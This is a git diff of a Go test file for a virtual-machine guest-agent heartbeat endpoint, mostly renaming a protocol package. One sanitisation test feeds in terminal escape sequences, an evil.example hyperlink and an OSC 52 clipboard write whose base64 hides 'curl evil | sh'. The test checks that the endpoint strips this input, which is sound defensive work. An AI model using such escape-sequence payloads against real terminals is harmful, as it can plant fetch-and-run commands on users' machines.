@@ -1,4 +1,4 @@
-package endpoint
+package guestendpoint
 
 import (
 	"bytes"
@@ -21,7 +21,7 @@ import (
 
 	macvirtv1alpha1 "github.com/macvirt/macvirt/api/v1alpha1"
 	"github.com/macvirt/macvirt/internal/classhistory"
-	"github.com/macvirt/macvirt/internal/guestagent/protocol"
+	"github.com/macvirt/macvirt/internal/guestprotocol"
 	"github.com/macvirt/macvirt/internal/render"
 	macvirtscheme "github.com/macvirt/macvirt/internal/scheme"
 )
@@ -38,7 +38,7 @@ var now = time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)
 func machine(name, token string) *macvirtv1alpha1.MacMachine {
 	return &macvirtv1alpha1.MacMachine{
 		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: "team-a",
-			Annotations: map[string]string{macvirtv1alpha1.AnnotationAgentTokenHash: protocol.HashToken(token)}},
+			Annotations: map[string]string{macvirtv1alpha1.AnnotationAgentTokenHash: guestprotocol.HashToken(token)}},
 		Spec: macvirtv1alpha1.MacMachineSpec{ClassName: "sonoma"},
 	}
 }
@@ -79,7 +79,7 @@ func setup(t *testing.T) (*Handler, client.Client) {
 }
 
 func heartbeat(name string) []byte {
-	b, _ := json.Marshal(protocol.Heartbeat{Machine: protocol.MachineRef{Namespace: "team-a", Name: name}, AgentVersion: "1.0.0",
+	b, _ := json.Marshal(guestprotocol.Heartbeat{Machine: guestprotocol.MachineRef{Namespace: "team-a", Name: name}, AgentVersion: "1.0.0",
 		OSVersion: "14.5", OSBuild: "23F79", Hostname: "mac", BootTime: now.Add(-time.Hour), IPAddresses: []string{"10.0.2.2"},
 		SSHHostKeys: []string{hostKey}})
 	return b
@@ -90,7 +90,7 @@ const hostKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE0Ow6DQP+//k6m8zioktAbUb0S
 
 // post sends a heartbeat body with a token.
 func post(h http.Handler, token string, body []byte) *httptest.ResponseRecorder {
-	req := httptest.NewRequest(http.MethodPost, protocol.HeartbeatPath, bytes.NewReader(body))
+	req := httptest.NewRequest(http.MethodPost, guestprotocol.HeartbeatPath, bytes.NewReader(body))
 	req.Header.Set("Content-Type", "application/json")
 	if token != "" {
 		req.Header.Set("Authorization", "Bearer "+token)
@@ -115,7 +115,7 @@ func TestHeartbeatIsRecordedAndAnsweredWithTheDesiredState(t *testing.T) {
 	if rec.Code != http.StatusOK {
 		t.Fatalf("status %d: %s", rec.Code, rec.Body)
 	}
-	var state protocol.DesiredState
+	var state guestprotocol.DesiredState
 	if err := json.Unmarshal(rec.Body.Bytes(), &state); err != nil {
 		t.Fatal(err)
 	}
@@ -133,16 +133,16 @@ func TestHeartbeatIsRecordedAndAnsweredWithTheDesiredState(t *testing.T) {
 		t.Errorf("machine b: %d %s", rec.Code, rec.Body)
 	}
 	// A token good for b is no good for a; the refusal is counted.
-	refused := testutil.ToFloat64(heartbeats.WithLabelValues(protocol.ReasonUnauthorized))
+	refused := testutil.ToFloat64(heartbeats.WithLabelValues(guestprotocol.ReasonUnauthorized))
 	if rec := post(h, tokenB, heartbeat("a")); rec.Code != http.StatusUnauthorized {
 		t.Errorf("machine a with b's token: %d %s", rec.Code, rec.Body)
 	}
-	if got := testutil.ToFloat64(heartbeats.WithLabelValues(protocol.ReasonUnauthorized)); got != refused+1 {
+	if got := testutil.ToFloat64(heartbeats.WithLabelValues(guestprotocol.ReasonUnauthorized)); got != refused+1 {
 		t.Errorf("macvirt_agent_heartbeats_total{result=Unauthorized} went from %v to %v, want one more", refused, got)
 	}
 	// Machine e, in a namespace that is neither the claim's nor a pool's,
 	// gets no keys though the claim names it.
-	body, _ := json.Marshal(protocol.Heartbeat{Machine: protocol.MachineRef{Namespace: "evil", Name: "e"}, AgentVersion: "1.0.0"})
+	body, _ := json.Marshal(guestprotocol.Heartbeat{Machine: guestprotocol.MachineRef{Namespace: "evil", Name: "e"}, AgentVersion: "1.0.0"})
 	if rec := post(h, tokenE, body); rec.Code != http.StatusOK || !strings.Contains(rec.Body.String(), `"sshAuthorizedKeys":[]`) {
 		t.Errorf("machine e, made by hand in another namespace, was answered %d %s", rec.Code, rec.Body)
 	}
@@ -179,7 +179,7 @@ func TestIntervalFollowsTheMachinesRevision(t *testing.T) {
 	}
 	interval := func() int {
 		rec := post(h, tokenA, heartbeat("a"))
-		var state protocol.DesiredState
+		var state guestprotocol.DesiredState
 		if err := json.Unmarshal(rec.Body.Bytes(), &state); rec.Code != http.StatusOK || err != nil {
 			t.Fatalf("status %d: %s", rec.Code, rec.Body)
 		}
@@ -197,29 +197,29 @@ func TestIntervalFollowsTheMachinesRevision(t *testing.T) {
 }
 
 func TestRejectionsWriteNothing(t *testing.T) {
-	oversized := []byte(`{"machine":{"namespace":"team-a","name":"a"},"agentVersion":"` + strings.Repeat("x", protocol.MaxBodyBytes) + `"}`)
+	oversized := []byte(`{"machine":{"namespace":"team-a","name":"a"},"agentVersion":"` + strings.Repeat("x", guestprotocol.MaxBodyBytes) + `"}`)
 	tests := map[string]struct {
 		method, path, token, contentType string
 		body                             []byte
 		code                             int
 		reason                           string
 	}{
-		"unknown machine":              {"POST", protocol.HeartbeatPath, tokenA, "application/json", heartbeat("nope"), 401, protocol.ReasonUnauthorized},
-		"wrong token":                  {"POST", protocol.HeartbeatPath, "guessed", "application/json", heartbeat("a"), 401, protocol.ReasonUnauthorized},
-		"another machine's token":      {"POST", protocol.HeartbeatPath, tokenB, "application/json", heartbeat("a"), 401, protocol.ReasonUnauthorized},
-		"no token":                     {"POST", protocol.HeartbeatPath, "", "application/json", heartbeat("a"), 401, protocol.ReasonUnauthorized},
-		"oversized body":               {"POST", protocol.HeartbeatPath, tokenA, "application/json", oversized, 413, protocol.ReasonTooLarge},
-		"malformed JSON":               {"POST", protocol.HeartbeatPath, tokenA, "application/json", []byte(`{"machine":`), 400, protocol.ReasonMalformed},
-		"unknown field":                {"POST", protocol.HeartbeatPath, tokenA, "application/json", []byte(`{"machine":{"namespace":"team-a","name":"a"},"agentVersion":"1","root":true}`), 400, protocol.ReasonMalformed},
-		"trailing data":                {"POST", protocol.HeartbeatPath, tokenA, "application/json", append(heartbeat("a"), []byte(`{}`)...), 400, protocol.ReasonMalformed},
-		"a host key that is not a key": {"POST", protocol.HeartbeatPath, tokenA, "application/json", []byte(`{"machine":{"namespace":"team-a","name":"a"},"agentVersion":"1","sshHostKeys":["ssh-ed25519 bm90IGEga2V5"]}`), 400, protocol.ReasonMalformed},
-		"nine host keys":               {"POST", protocol.HeartbeatPath, tokenA, "application/json", []byte(`{"machine":{"namespace":"team-a","name":"a"},"agentVersion":"1","sshHostKeys":["` + strings.Repeat(hostKey+`","`, 8) + hostKey + `"]}`), 400, protocol.ReasonMalformed},
-		"a host key with a comment":    {"POST", protocol.HeartbeatPath, tokenA, "application/json", []byte(`{"machine":{"namespace":"team-a","name":"a"},"agentVersion":"1","sshHostKeys":["` + hostKey + ` root@mac"]}`), 400, protocol.ReasonMalformed},
-		"not an IP address":            {"POST", protocol.HeartbeatPath, tokenA, "application/json", []byte(`{"machine":{"namespace":"team-a","name":"a"},"agentVersion":"1","ipAddresses":["evil"]}`), 400, protocol.ReasonMalformed},
-		"no agent version":             {"POST", protocol.HeartbeatPath, tokenA, "application/json", []byte(`{"machine":{"namespace":"team-a","name":"a"}}`), 400, protocol.ReasonMalformed},
-		"wrong content type":           {"POST", protocol.HeartbeatPath, tokenA, "text/plain", heartbeat("a"), 415, protocol.ReasonUnsupported},
-		"GET":                          {"GET", protocol.HeartbeatPath, tokenA, "application/json", nil, 405, protocol.ReasonMethodNotAllowed},
-		"unknown path":                 {"POST", "/v3/heartbeat", tokenA, "application/json", heartbeat("a"), 404, protocol.ReasonUnsupported},
+		"unknown machine":              {"POST", guestprotocol.HeartbeatPath, tokenA, "application/json", heartbeat("nope"), 401, guestprotocol.ReasonUnauthorized},
+		"wrong token":                  {"POST", guestprotocol.HeartbeatPath, "guessed", "application/json", heartbeat("a"), 401, guestprotocol.ReasonUnauthorized},
+		"another machine's token":      {"POST", guestprotocol.HeartbeatPath, tokenB, "application/json", heartbeat("a"), 401, guestprotocol.ReasonUnauthorized},
+		"no token":                     {"POST", guestprotocol.HeartbeatPath, "", "application/json", heartbeat("a"), 401, guestprotocol.ReasonUnauthorized},
+		"oversized body":               {"POST", guestprotocol.HeartbeatPath, tokenA, "application/json", oversized, 413, guestprotocol.ReasonTooLarge},
+		"malformed JSON":               {"POST", guestprotocol.HeartbeatPath, tokenA, "application/json", []byte(`{"machine":`), 400, guestprotocol.ReasonMalformed},
+		"unknown field":                {"POST", guestprotocol.HeartbeatPath, tokenA, "application/json", []byte(`{"machine":{"namespace":"team-a","name":"a"},"agentVersion":"1","root":true}`), 400, guestprotocol.ReasonMalformed},
+		"trailing data":                {"POST", guestprotocol.HeartbeatPath, tokenA, "application/json", append(heartbeat("a"), []byte(`{}`)...), 400, guestprotocol.ReasonMalformed},
+		"a host key that is not a key": {"POST", guestprotocol.HeartbeatPath, tokenA, "application/json", []byte(`{"machine":{"namespace":"team-a","name":"a"},"agentVersion":"1","sshHostKeys":["ssh-ed25519 bm90IGEga2V5"]}`), 400, guestprotocol.ReasonMalformed},
+		"nine host keys":               {"POST", guestprotocol.HeartbeatPath, tokenA, "application/json", []byte(`{"machine":{"namespace":"team-a","name":"a"},"agentVersion":"1","sshHostKeys":["` + strings.Repeat(hostKey+`","`, 8) + hostKey + `"]}`), 400, guestprotocol.ReasonMalformed},
+		"a host key with a comment":    {"POST", guestprotocol.HeartbeatPath, tokenA, "application/json", []byte(`{"machine":{"namespace":"team-a","name":"a"},"agentVersion":"1","sshHostKeys":["` + hostKey + ` root@mac"]}`), 400, guestprotocol.ReasonMalformed},
+		"not an IP address":            {"POST", guestprotocol.HeartbeatPath, tokenA, "application/json", []byte(`{"machine":{"namespace":"team-a","name":"a"},"agentVersion":"1","ipAddresses":["evil"]}`), 400, guestprotocol.ReasonMalformed},
+		"no agent version":             {"POST", guestprotocol.HeartbeatPath, tokenA, "application/json", []byte(`{"machine":{"namespace":"team-a","name":"a"}}`), 400, guestprotocol.ReasonMalformed},
+		"wrong content type":           {"POST", guestprotocol.HeartbeatPath, tokenA, "text/plain", heartbeat("a"), 415, guestprotocol.ReasonUnsupported},
+		"GET":                          {"GET", guestprotocol.HeartbeatPath, tokenA, "application/json", nil, 405, guestprotocol.ReasonMethodNotAllowed},
+		"unknown path":                 {"POST", "/v3/heartbeat", tokenA, "application/json", heartbeat("a"), 404, guestprotocol.ReasonUnsupported},
 	}
 	for name, tc := range tests {
 		t.Run(name, func(t *testing.T) {
@@ -231,7 +231,7 @@ func TestRejectionsWriteNothing(t *testing.T) {
 			}
 			rec := httptest.NewRecorder()
 			h.ServeHTTP(rec, req)
-			var e protocol.Error
+			var e guestprotocol.Error
 			if rec.Code != tc.code || json.Unmarshal(rec.Body.Bytes(), &e) != nil || e.Reason != tc.reason {
 				t.Errorf("got %d %s, want %d %s", rec.Code, rec.Body, tc.code, tc.reason)
 			}
@@ -260,11 +260,11 @@ func FuzzDecodeHeartbeat(f *testing.F) {
 	f.Add([]byte(`{"machine":{"namespace":"n","name":"m"},"agentVersion":"1","ipAddresses":["::1","10.0.0.1"],"bootTime":"2026-01-01T00:00:00Z"}`))
 	f.Add([]byte(`{"machine":{}}`))
 	f.Fuzz(func(t *testing.T, body []byte) {
-		hb, err := protocol.DecodeHeartbeat(bytes.NewReader(body))
+		hb, err := guestprotocol.DecodeHeartbeat(bytes.NewReader(body))
 		if err != nil {
 			return
 		}
-		if len(body) > protocol.MaxBodyBytes || hb.Machine.Name == "" || hb.AgentVersion == "" || len(hb.IPAddresses) > protocol.MaxIPAddresses {
+		if len(body) > guestprotocol.MaxBodyBytes || hb.Machine.Name == "" || hb.AgentVersion == "" || len(hb.IPAddresses) > guestprotocol.MaxIPAddresses {
 			t.Fatalf("accepted a heartbeat outside the limits: %q", body)
 		}
 	})
@@ -315,11 +315,11 @@ func TestLimitersOfIdleMachinesAreForgotten(t *testing.T) {
 // The interval an agent assumes before its first answer is the one the
 // operator gives under the default heartbeatTimeout.
 func TestTheAgentsDefaultIntervalIsTheOperatorsDefault(t *testing.T) {
-	if got := protocol.HeartbeatInterval(macvirtv1alpha1.DefaultHeartbeatTimeout); got != protocol.DefaultHeartbeatInterval {
-		t.Errorf("HeartbeatInterval(default heartbeatTimeout) = %s, protocol.DefaultHeartbeatInterval = %s", got, protocol.DefaultHeartbeatInterval)
+	if got := guestprotocol.HeartbeatInterval(macvirtv1alpha1.DefaultHeartbeatTimeout); got != guestprotocol.DefaultHeartbeatInterval {
+		t.Errorf("HeartbeatInterval(default heartbeatTimeout) = %s, protocol.DefaultHeartbeatInterval = %s", got, guestprotocol.DefaultHeartbeatInterval)
 	}
 	for timeout, want := range map[time.Duration]time.Duration{10 * time.Second: 5 * time.Second, time.Minute: 15 * time.Second, time.Hour: time.Minute} {
-		if got := protocol.HeartbeatInterval(timeout); got != want {
+		if got := guestprotocol.HeartbeatInterval(timeout); got != want {
 			t.Errorf("HeartbeatInterval(%s) = %s, want %s", timeout, got, want)
 		}
 	}
@@ -387,14 +387,14 @@ func TestWhatTheGuestWritesIsRecordedWithoutEscapeSequences(t *testing.T) {
 	h, c := setup(t)
 	withBootstrap(t, h, c)
 	exit := 1
-	hb := protocol.HeartbeatV2{Heartbeat: protocol.Heartbeat{Machine: protocol.MachineRef{Namespace: "team-a", Name: "a"},
+	hb := guestprotocol.HeartbeatV2{Heartbeat: guestprotocol.Heartbeat{Machine: guestprotocol.MachineRef{Namespace: "team-a", Name: "a"},
 		AgentVersion: "1.0.0\x1b[8m", OSVersion: "14.5\x1b]0;evil\x07", OSBuild: "23F79\u009b2J", Hostname: "mac\r\x1b[2K",
 		ApplyError: "dscl: \x1b[31mpermission denied\x1b[0m\x1b]0;pwned\x07 for «admin» 🍎\r\n\x1b[1A\x1b[2Kall fine"},
-		Tasks: []protocol.TaskReport{{ID: "claim-uid-class", State: protocol.TaskFailed, StartedAt: now, ExitCode: &exit,
+		Tasks: []guestprotocol.TaskReport{{ID: "claim-uid-class", State: guestprotocol.TaskFailed, StartedAt: now, ExitCode: &exit,
 			OutputTail: "step 1 \x1b[32mok\x1b[0m\n\tstep 2 \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\u009b31mfailed\n",
 			Message:    "the script \x1bcfailed\x1b]8;;https://evil.example\x1b\\ here\x1b]8;;\x1b\\"}}}
 	body, _ := json.Marshal(hb)
-	req := httptest.NewRequest(http.MethodPost, protocol.HeartbeatPathV2, bytes.NewReader(body))
+	req := httptest.NewRequest(http.MethodPost, guestprotocol.HeartbeatPathV2, bytes.NewReader(body))
 	req.Header.Set("Content-Type", "application/json")
 	req.Header.Set("Authorization", "Bearer "+tokenA)
 	rec := httptest.NewRecorder()
